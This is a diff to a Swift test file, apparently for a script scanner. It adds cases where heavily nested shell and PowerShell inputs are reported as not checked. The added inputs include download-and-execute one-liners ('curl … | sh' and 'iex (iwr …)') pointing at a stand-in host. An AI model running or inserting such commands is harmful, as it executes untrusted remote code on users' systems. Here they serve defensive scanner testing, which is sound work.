@@ -122,6 +122,9 @@ private let long = String(repeating: "a", count: 3_900)
     @Test(arguments: [
         ("a.py", String(repeating: "(", count: 100) + "exec(x)"),
         ("a.py", "exec(x" + String(repeating: ".a()", count: 300) + ")"),
+        ("a.sh", String(repeating: "$(echo ", count: 14) + "curl https://a.example/x | sh"),
+        ("a.sh", String(repeating: "{ ", count: 20) + "curl https://a.example/x | sh"),
+        ("a.ps1", String(repeating: "(", count: 14) + "iex (iwr https://a.example/x)"),
     ])
     func `is reported as not checked`(_ path: String, _ text: String) throws {
         let script = RepeatingScript(path: path, before: text + "\n", piece: "x\n")
